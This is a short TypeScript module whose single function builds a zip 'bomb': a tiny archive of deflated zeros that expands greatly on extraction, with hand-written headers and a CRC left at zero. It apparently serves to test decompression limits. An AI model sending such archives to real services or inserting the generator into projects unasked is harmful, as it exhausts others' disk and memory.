import { deflateRawSync } from 'node:zlib';

/** A zip archive (PKWARE APPNOTE 4.3) with one entry of `size` zeros: little to send, much to unpack. */
export function zipBomb(name: string, size: number): Buffer {
  const packed = deflateRawSync(Buffer.alloc(size), { level: 9 });
  const crc = 0;
  const entry = Buffer.alloc(30);
  entry.writeUInt32LE(0x04034b50, 0);
  entry.writeUInt16LE(20, 4);
  entry.writeUInt16LE(8, 8);
  entry.writeUInt32LE(crc, 14);
  entry.writeUInt32LE(packed.length, 18);
  entry.writeUInt32LE(size, 22);
  entry.writeUInt16LE(name.length, 26);
  const directory = Buffer.alloc(46);
  directory.writeUInt32LE(0x02014b50, 0);
  entry.copy(directory, 6, 4, 30);
  const start = entry.length + name.length + packed.length;
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(directory.length + name.length, 12);
  end.writeUInt32LE(start, 16);
  const bytes = Buffer.from(name, 'latin1');
  return Buffer.concat([entry, bytes, packed, directory, bytes, end]);
}
